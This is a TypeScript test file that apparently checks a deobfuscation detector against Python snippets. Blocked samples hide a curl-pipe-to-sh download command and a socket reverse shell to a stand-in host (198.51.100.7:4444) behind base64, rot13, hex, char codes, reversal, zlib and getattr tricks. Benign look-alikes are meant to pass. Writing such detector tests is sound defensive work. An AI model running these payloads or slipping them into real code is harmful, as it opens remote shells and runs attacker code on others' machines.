import { deobfCases, enc } from "./_deobf_testing.ts";
import { deflateSync } from "node:zlib";

const PAY = "import os;os.system('curl -s http://198.51.100.7/p|sh')";
const SHELL =
  "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])";
const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));

deobfCases("python", [
  {
    id: "decoded",
    block: [
      `exec(__import__('base64').b64decode('${enc.b64(PAY)}'))`,
      `import codecs\nexec(codecs.decode('${enc.rot13(PAY)}', 'rot13'))`,
      `exec(''.join(chr(c) for c in [${enc.codes(SHELL)}]))`,
      `exec(bytes.fromhex('${enc.hex(SHELL)}').decode())`,
      `p = "${enc.rev(PAY)}"\nexec(p[::-1])`,
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${l1(deflateSync(SHELL))}')))`,
      `getattr(__import__("o" + "s"), "sy" + "stem")("curl -s http://198.51.100.7/p|sh")`,
      `exec(marshal.loads(base64.b64decode(blob)))`,
    ],
    pass: [
      `plugin = getattr(importlib.import_module(f"plugins.{name}"), "Plugin")()`,
      `s = "hello"; print(s[::-1])`,
      `data = base64.b64decode(open("logo.b64").read()); open("logo.png", "wb").write(data)`,
      `print(''.join(chr(c) for c in [72, 101, 108, 108, 111]))`,
      `key = bytes.fromhex(os.environ["KEY_HEX"])`,
      `print(codecs.decode('Tbbq zbeavat', 'rot13'))`,
      `def reverse(s):\n    return s[::-1]\nassert reverse("abc") == "cba"`,
    ],
  },
]);
